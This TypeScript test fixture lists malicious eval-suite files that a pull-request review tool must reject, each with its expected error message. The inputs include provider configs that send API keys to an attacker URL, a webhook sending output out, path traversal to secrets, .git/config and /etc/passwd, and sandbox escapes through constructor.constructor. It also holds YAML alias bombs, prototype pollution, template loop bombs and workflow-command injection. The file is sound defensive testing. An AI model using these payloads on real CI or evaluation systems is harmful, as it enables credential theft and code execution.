import type { FileContent } from '../support/git-repository.ts';
import { metadataText } from '../support/prompt-files.ts';

export type Files = Readonly<Record<string, FileContent>>;

/** Where an attack would like to lead. */
export interface Targets {
  /** `http://127.0.0.1:PORT` of the attacker. */
  readonly evil: string;
  /** A file outside of the repository. */
  readonly outside: string;
}

/** What a pull request brings into the directory of one prompt, and what the review says of it. */
export interface SuiteAttack {
  readonly files: (targets: Targets) => Files;
  /** The errors of the prompt's evals, all of them in order: rule, place in the prompt's directory, words. */
  readonly findings: readonly (readonly [place: string, says: RegExp])[];
}

const suite = (text: string): Files => ({ 'evals.yaml': text });
const metadata = (fields: object): Files => ({ '.prompt-metadata.json': metadataText(fields as Record<string, unknown>) });
/** A suite of one test with these lines in it, which begin with the third. */
const test = (lines: string): Files => suite(`tests:\n  - vars: { question: Hello }\n${lines.replace(/^/gm, '    ')}\n`);
/** A suite whose one assertion is this, in the fourth line. */
const assertion = (flow: string): Files => test(`assert:\n  - ${flow}`);
const GOOD: Files = suite('tests:\n  - { id: good, vars: { question: Hello }, assert: [{ type: contains, value: good }] }\n');
const [INVALID, NOT_RUN] = ['evals/invalid', 'evals/not-run'];

const REACH = /does not say which model is asked, where, or with which key/;
const ADDRESS = /would let a pull request choose where requests go/;
const CODE = /runs code of the repository/;
const FORBIDDEN = /is code, and the configuration does not allow it/;
const OUTSIDE = /is not a path inside the prompt's directory/;
const LINK = /leads over a symbolic link, which is not followed/;
const LOOP = /loops too often|makes too much text/;

const provider = ({ evil }: Targets): string =>
  `{ id: "openai:gpt-5-mini", config: { apiBaseUrl: "${evil}/v1", apiKey: x, headers: { authorization: y }, env: { A: b } } }`;
const up = (depth: number): string => `file://${'../'.repeat(depth)}secret.txt`;

/** Where requests go, and with which key and model. */
const REACHING: Readonly<Record<string, SuiteAttack>> = {
  'reach-providers': {
    files: (to) => suite(`providers:\n  - ${provider(to)}\ntests: [{ vars: { question: a } }]\n`),
    findings: [[`${INVALID} evals.yaml:2`, REACH]],
  },
  'reach-targets': {
    files: (to) => suite(`tests: [{ vars: { question: a } }]\ntargets: [ok, ${provider(to)}]\n`),
    findings: [[`${INVALID} evals.yaml:2`, REACH]],
  },
  'reach-options': {
    files: (to) => test(`options:\n  provider: ${provider(to)}`),
    findings: [[`${INVALID} evals.yaml:4`, REACH]],
  },
  'reach-default-test': {
    files: (to) => suite(`defaultTest:\n  options:\n    provider: ${provider(to)}\ntests: [{ vars: { question: a } }]\n`),
    findings: [[`${INVALID} evals.yaml:3`, REACH]],
  },
  'reach-default-provider': {
    files: (to) => suite(`defaultTest:\n  provider: ${provider(to)}\ntests: [{ vars: { question: a } }]\n`),
    findings: [[`${INVALID} evals.yaml:2`, REACH]],
  },
  'reach-assertion': {
    files: (to) => assertion(`{ type: llm-rubric, value: kind, provider: ${provider(to)} }`),
    findings: [[`${INVALID} evals.yaml:4`, REACH]],
  },
  'reach-assert-set': {
    files: (to) => assertion(`{ type: assert-set, assert: [{ type: llm-rubric, value: kind, provider: ${provider(to)} }] }`),
    findings: [[`${INVALID} evals.yaml:4`, REACH]],
  },
  'reach-alias': {
    files: (to) => suite(`metadata: &evil ${provider(to)}\ntests:\n  - vars: { question: a }\n    options: { provider: *evil }\n`),
    findings: [[`${INVALID} evals.yaml:4`, REACH]],
  },
  'reach-merge-key': {
    files: (to) => suite(`metadata: &evil { provider: ${provider(to)} }\ntests:\n  - vars: { question: a }\n    <<: *evil\n`),
    findings: [[`${INVALID} evals.yaml:3`, REACH]],
  },
  'reach-merged-keys': {
    files: ({ evil }) =>
      suite(
        `metadata: &evil { apiBaseUrl: "${evil}", headers: { a: b } }\ntests:\n  - vars: { question: a }\n    options: { <<: *evil }\n`,
      ),
    findings: [
      [`${INVALID} evals.yaml:4`, ADDRESS],
      [`${INVALID} evals.yaml:4`, ADDRESS],
    ],
  },
  'reach-environment': {
    files: ({ evil }) => suite(`env: { OPENAI_BASE_URL: "${evil}" }\ntests: [{ vars: { question: a } }]\n`),
    findings: [[`${INVALID} evals.yaml:1`, /a suite sets no environment/]],
  },
  'reach-lines': {
    files: ({ evil }) => ({
      ...suite('tests: cases.jsonl\n'),
      'cases.jsonl': `{"vars":{"question":"a"}}\n{"vars":{"question":"b"},"provider":{"config":{"apiBaseUrl":"${evil}"}}}\n`,
    }),
    findings: [[`${INVALID} cases.jsonl:2`, REACH]],
  },
  'reach-columns': {
    files: ({ evil }) => ({ ...suite('tests: cases.csv\n'), 'cases.csv': `question,__provider\na,"${evil}"\n` }),
    findings: [[`${INVALID} cases.csv:2`, /The column "__provider" means nothing here/]],
  },
  'reach-webhook': {
    files: ({ evil }) => assertion(`{ type: webhook, value: "${evil}/hook" }`),
    findings: [[`${INVALID} evals.yaml:4`, /sends the output to an address that a pull request can choose/]],
  },
  'reach-web-cases': {
    files: ({ evil }) => suite(`tests: "${evil}/cases.csv"\n`),
    findings: [[`${INVALID} evals.yaml:1`, OUTSIDE]],
  },
  'reach-web-image': {
    files: ({ evil }) => test(`input:\n  - { role: user, content: [{ type: image, path: "${evil}/a.png" }] }`),
    findings: [[`${INVALID} evals.yaml:4`, OUTSIDE]],
  },
  'reach-tools': {
    files: ({ evil }) => ({ ...GOOD, 'tools.json': `[\n  { "type": "mcp", "server_url": "${evil}" }\n]\n` }),
    findings: [[`${INVALID} tools.json:2`, /has no `name`/]],
  },
  'reach-model': {
    files: () => ({ ...GOOD, ...metadata({ model: 'evil:gpt-5-mini' }) }),
    findings: [[`${NOT_RUN} .prompt-metadata.json:4`, /of the provider "evil", which is not configured/]],
  },
  'reach-model-name': {
    files: ({ evil }) => ({ ...GOOD, ...metadata({ model: `openai:${evil}/?/v1` }) }),
    findings: [[`${NOT_RUN} .prompt-metadata.json:4`, /is not the name of a model/]],
  },
  'reach-model-prototype': {
    files: () => ({ ...GOOD, ...metadata({ model: '__proto__:gpt' }) }),
    findings: [[`${NOT_RUN} .prompt-metadata.json:4`, /which is not configured/]],
  },
  'reach-provider-options': {
    files: ({ evil }) => ({ ...GOOD, ...metadata({ provider_options: { baseURL: evil, headers: { a: 'b' }, apiKey: 'x', fetch: 'y' } }) }),
    findings: [[`${NOT_RUN} .prompt-metadata.json:6`, /provider_options\.baseURL is not allowed/]],
  },
};

/** What is read. */
const READING: Readonly<Record<string, SuiteAttack>> = {
  'read-var': {
    files: () => suite(`tests:\n  - vars: { question: "${up(2)}" }\n`),
    findings: [[`${INVALID} evals.yaml:2`, OUTSIDE]],
  },
  'read-var-absolute': {
    files: ({ outside }) => suite(`tests:\n  - vars: { question: "file://${outside}" }\n`),
    findings: [[`${INVALID} evals.yaml:2`, OUTSIDE]],
  },
  'read-var-windows': {
    files: () => suite(`tests:\n  - vars: { question: 'file://..\\..\\secret.txt' }\n`),
    findings: [[`${INVALID} evals.yaml:2`, OUTSIDE]],
  },
  'read-var-encoded': {
    files: () => suite(`tests:\n  - vars: { question: "file://%2e%2e/%2e%2e/secret.txt" }\n`),
    findings: [[`${INVALID} evals.yaml:2`, /There is no file/]],
  },
  'read-neighbour': {
    files: () => suite(`tests:\n  - vars: { question: "file://../read-var/system-prompt.txt" }\n`),
    findings: [[`${INVALID} evals.yaml:2`, OUTSIDE]],
  },
  'read-git': {
    files: () => suite(`tests:\n  - vars: { question: "file://.git/config" }\n`),
    findings: [[`${INVALID} evals.yaml:2`, OUTSIDE]],
  },
  'read-value': { files: () => assertion(`{ type: equals, value: "${up(2)}" }`), findings: [[`${INVALID} evals.yaml:4`, OUTSIDE]] },
  'read-rubric': {
    files: () => assertion(`{ type: llm-rubric, value: a, rubricPrompt: "${up(2)}" }`),
    findings: [[`${INVALID} evals.yaml:4`, OUTSIDE]],
  },
  'read-cases': { files: () => suite(`tests:\n  - ../../secret.txt\n`), findings: [[`${INVALID} evals.yaml:2`, OUTSIDE]] },
  'read-cases-absolute': {
    files: ({ outside }) => suite(`tests: "${outside}"\n`),
    findings: [[`${INVALID} evals.yaml:1`, OUTSIDE]],
  },
  'read-cases-link': {
    files: ({ outside }) => ({ ...suite('tests: cases.yaml\n'), 'cases.yaml': { link: outside } }),
    findings: [[`${INVALID} evals.yaml:1`, LINK]],
  },
  'read-directory-link': {
    files: ({ outside }) => ({ ...suite('tests: cases/secret.txt\n'), cases: { link: outside.replace(/\/[^/]*$/, '') } }),
    findings: [[`${INVALID} evals.yaml:1`, LINK]],
  },
  'read-submodule': {
    files: () => ({ ...suite('tests: cases/a.yaml\n'), cases: { submodule: '1'.repeat(40) } }),
    findings: [[`${INVALID} evals.yaml:1`, /leads into a submodule, which is not read|There is no file “cases\/a\.yaml”/]],
  },
  'read-suite-link': {
    files: ({ outside }) => ({ 'evals.yaml': { link: outside } }),
    findings: [[`${INVALID} evals.yaml`, /a symbolic link, which is not followed/]],
  },
  'read-tools-link': {
    files: ({ outside }) => ({ ...GOOD, 'tools.json': { link: outside } }),
    findings: [[`${INVALID} tools.json`, /not a regular file and is not followed/]],
  },
  'read-image': {
    files: () => test(`input:\n  - { role: user, content: [{ type: image, path: ../../secret.txt }] }`),
    findings: [[`${INVALID} evals.yaml:4`, OUTSIDE]],
  },
  'read-image-link': {
    files: ({ outside }) => ({
      ...test(`input:\n  - { role: user, content: [{ type: image, path: a.png }] }`),
      'a.png': { link: outside },
    }),
    findings: [[`${INVALID} evals.yaml:4`, LINK]],
  },
  'read-image-text': {
    files: () => test(`input:\n  - { role: user, content: [{ type: image, path: system-prompt.txt }] }`),
    findings: [[`${INVALID} evals.yaml:4`, /is no PNG, JPEG, GIF or WebP image/]],
  },
};

/** What is run. */
const RUNNING: Readonly<Record<string, SuiteAttack>> = {
  'run-javascript': {
    files: () => assertion(`{ type: javascript, value: "output.constructor.constructor('return process')().env.CANARY" }`),
    findings: [[`${INVALID} evals.yaml:4`, FORBIDDEN]],
  },
  'run-transform': { files: () => test(`options:\n  transform: process.env.CANARY`), findings: [[`${INVALID} evals.yaml:4`, FORBIDDEN]] },
  'run-default-transform': {
    files: () => suite('defaultTest: { options: { transform: require("fs") } }\ntests: [{ vars: { question: a } }]\n'),
    findings: [[`${INVALID} evals.yaml:1`, FORBIDDEN]],
  },
  'run-assertion-transform': {
    files: () => assertion('{ type: contains, value: a, transform: process.env.CANARY }'),
    findings: [[`${INVALID} evals.yaml:4`, FORBIDDEN]],
  },
  'run-file': {
    files: () => ({ ...assertion('{ type: javascript, value: "file://judge.js" }'), 'judge.js': 'module.exports = () => process.env' }),
    findings: [[`${INVALID} evals.yaml:4`, CODE]],
  },
  'run-python': { files: () => assertion('{ type: python, value: "import os" }'), findings: [[`${INVALID} evals.yaml:4`, CODE]] },
  'run-ruby': { files: () => assertion('{ type: not-ruby, value: "exit" }'), findings: [[`${INVALID} evals.yaml:4`, CODE]] },
  'run-var': {
    files: () => ({ ...suite('tests:\n  - vars: { question: "file://var.py" }\n'), 'var.py': 'import os' }),
    findings: [[`${INVALID} evals.yaml:2`, CODE]],
  },
  'run-cases': {
    files: () => ({ ...suite('tests:\n  - file://cases.js\n'), 'cases.js': 'process.exit(7)' }),
    findings: [[`${INVALID} evals.yaml:2`, CODE]],
  },
  'run-provider': {
    files: () => suite('providers: "exec:cat secret.txt"\ntests: [{ vars: { question: a } }]\n'),
    findings: [[`${INVALID} evals.yaml:1`, CODE]],
  },
  'run-extensions': {
    files: () => suite('extensions: ["file://hook.js:run"]\nnunjucksFilters: { a: file://a.js }\ntests: [{ vars: { question: a } }]\n'),
    findings: [
      [`${INVALID} evals.yaml:1`, CODE],
      [`${INVALID} evals.yaml:2`, CODE],
    ],
  },
};

/** What templates do. */
const RENDERING: Readonly<Record<string, SuiteAttack>> = {
  'render-include': {
    files: ({ outside }) => test(`input: '{% include "${outside}" %}'`),
    findings: [[`${INVALID} evals.yaml:3`, /`?{% include %}/]],
  },
  'render-render': {
    files: () => suite(`tests:\n  - vars: { question: '{% render "secret.txt" %}' }\n`),
    findings: [[`${INVALID} evals.yaml:2`, /{% render %}/]],
  },
  'render-layout': {
    files: () => assertion(`{ type: contains, value: '{% layout "/etc/passwd" %}' }`),
    findings: [[`${INVALID} evals.yaml:4`, /{% layout %}/]],
  },
  'render-environment': {
    files: () => test(`input: '{{ process.env.CANARY }}{{ env.CANARY }}'`),
    findings: [[`${INVALID} evals.yaml:2`, /needs the variable “process/]],
  },
  'render-constructor': {
    files: () => test(`input: '{{ question.constructor.constructor }}'`),
    findings: [[`${INVALID} evals.yaml:2`, /needs the variable “question.constructor/]],
  },
  'render-loop': {
    files: () => test(`input: '{% for a in (1..99999) %}{% for b in (1..99999) %}{% endfor %}{% endfor %}'`),
    findings: [[`${INVALID} evals.yaml:2`, LOOP]],
  },
  'render-range': {
    files: () => test(`input: '{% for a in (1..9999999999) %}x{% endfor %}'`),
    findings: [[`${INVALID} evals.yaml:2`, LOOP]],
  },
  'render-capture': {
    files: () =>
      test(`input: '{% assign x = "ab" %}{% for i in (1..60) %}{% capture x %}{{ x }}{{ x }}{% endcapture %}{% endfor %}{{ x }}'`),
    findings: [[`${INVALID} evals.yaml:2`, LOOP]],
  },
  'render-replace': {
    files: () => test(`input: '{% assign x = "aaaaaaaaaa" %}{{ x ${'| replace: "a", x | append: x '.repeat(20)}}}'`),
    findings: [[`${INVALID} evals.yaml:2`, LOOP]],
  },
  'render-date': {
    files: () => test(`input: '{{ "now" | date: "%999999999d" }}'`),
    findings: [[`${INVALID} evals.yaml:2`, LOOP]],
  },
  'render-deep': {
    files: () => test(`input: '{{ ${'('.repeat(50_000)} }}'`),
    findings: [[`${INVALID} evals.yaml:3`, /nested too deeply/]],
  },
  'render-prompt': {
    files: () => ({
      ...GOOD,
      'system-prompt.txt': `You answer briefly, truly and kindly; always. {% for a in (1..9999999999) %}x{% endfor %}\n`,
    }),
    findings: [[`${INVALID} evals.yaml:2`, LOOP]],
  },
};

/** What parsers are given. */
const PARSING: Readonly<Record<string, SuiteAttack>> = {
  'parse-alias-bomb': {
    files: () => {
      const lines = Array.from({ length: 30 }, (_, at) => `  a${at + 1}: &a${at + 1} [*a${at}, *a${at}, *a${at}, *a${at}]`);
      return suite(`metadata:\n  a0: &a0 [x, x]\n${lines.join('\n')}\ntests: [{ vars: { question: a } }]\n`);
    },
    findings: [[`${INVALID} evals.yaml:1`, /Aliases .* stand for too much data/]],
  },
  'parse-deep-json': {
    files: () => ({ ...suite('tests: cases.json\n'), 'cases.json': `${'['.repeat(200_000)}${']'.repeat(200_000)}` }),
    findings: [[`${INVALID} cases.json:1`, /nested more than 60 levels deep/]],
  },
  'parse-deep-suite': {
    files: () => ({ 'evals.json': `{"tests":${'{"a":'.repeat(200_000)}1${'}'.repeat(200_000)}}` }),
    findings: [[`${INVALID} evals.json:1`, /nested more than 60 levels deep/]],
  },
  'parse-deep-yaml': {
    files: () => suite(`tests: ${'['.repeat(100_000)}`),
    findings: [[`${INVALID} evals.yaml:1`, /nested|deep/]],
  },
  'parse-prototype': {
    files: () => ({ ...suite('tests: cases.json\n'), 'cases.json': '[\n  { "vars": { "__proto__": { "required": true } } }\n]\n' }),
    findings: [[`${INVALID} cases.json:2`, /`__proto__` cannot be a name here/]],
  },
  'parse-prototype-yaml': {
    files: () => suite('tests:\n  - vars: { question: a }\n    __proto__: { required: true }\n'),
    findings: [[`${INVALID} evals.yaml:3`, /`__proto__` cannot be a name here/]],
  },
  'parse-prototype-id': {
    files: () => suite('tests:\n  - id: __proto__\n    vars: { question: a }\n'),
    findings: [[`${INVALID} evals.yaml:2`, /cannot be a case's id/]],
  },
  'parse-duplicate-id': {
    files: () => suite('tests:\n  - { id: a, vars: { question: a } }\n  - { id: a, vars: { question: b } }\n'),
    findings: [[`${INVALID} evals.yaml:3`, /a/]],
  },
  'parse-duplicate-key': {
    files: () => suite('tests:\n  - id: a\n    vars: { question: a }\n    vars: { question: b }\n'),
    findings: [[`${INVALID} evals.yaml:4`, /vars/]],
  },
  'parse-command-id': {
    files: () => suite('tests:\n  - id: "::error::pwned"\n    vars: { question: a }\n'),
    findings: [[`${INVALID} evals.yaml:2`, /cannot be a case's id/]],
  },
  'parse-markdown-id': {
    files: () => suite('tests:\n  - id: "<b>@octocat</b>"\n    vars: { question: a }\n  - id: "a\\u001b[31m"\n    vars: { question: b }\n'),
    findings: [
      [`${INVALID} evals.yaml:2`, /cannot be a case's id/],
      [`${INVALID} evals.yaml:4`, /cannot be a case's id/],
    ],
  },
  'parse-utf16': {
    files: () => ({ 'evals.yaml': Buffer.from('\ufefftests: []\n', 'utf16le') }),
    findings: [[`${INVALID} evals.yaml:1`, /not UTF-8/]],
  },
  'parse-number': {
    files: () => ({ ...suite('tests: cases.json\n'), 'cases.json': '[\n  { "vars": { "question": 1e999 } }\n]\n' }),
    findings: [[`${INVALID} cases.json:2`, /beyond all bounds/]],
  },
  'parse-rows': {
    files: () => suite(`tests:\n  - vars: { ${'abcde'.replace(/./g, (name) => `${name}: [${'x, '.repeat(20)}y], `)} question: a }\n`),
    findings: [[`${INVALID} evals.yaml:2`, /more than 20,000 cases/]],
  },
  'parse-assertions': {
    files: () => suite(`tests:\n  - vars: { question: a }\n    assert: [${'{ type: is-html }, '.repeat(501)}]\n`),
    findings: [[`${INVALID} evals.yaml:2`, /up to 500 assertions, and this one has 501/]],
  },
  'parse-pattern': {
    files: () => ({ ...suite(`tests: "${'*a'.repeat(100)}b.yaml"\n`), [`${'a'.repeat(200)}.yaml`]: 'tests' }),
    findings: [[`${INVALID} evals.yaml:1`, /No file of the prompt's directory fits/]],
  },
  'parse-regex': {
    files: () => assertion(`{ type: regex, value: '(a+)+\\1(?=b)' }`),
    findings: [[`${INVALID} evals.yaml:4`, /back-reference|look-ahead|RE2/]],
  },
  'parse-large-cases': {
    files: () => ({ ...suite('tests: cases.jsonl\n'), 'cases.jsonl': Buffer.alloc(100 * 1_048_576, ' ') }),
    findings: [[`${INVALID} evals.yaml:1`, /too large \(100\.0 MB\)/]],
  },
  'parse-large-var': {
    files: () => ({ ...suite('tests:\n  - vars: { question: "file://large.txt" }\n'), 'large.txt': Buffer.alloc(100 * 1_048_576, 'a') }),
    findings: [[`${INVALID} evals.yaml:2`, /too large \(100\.0 MB\)/]],
  },
};

/** Each is a prompt of its own in one pull request; none of them gets so far that a model is asked. */
export const SUITE_ATTACKS: Readonly<Record<string, SuiteAttack>> = { ...REACHING, ...READING, ...RUNNING, ...RENDERING, ...PARSING };
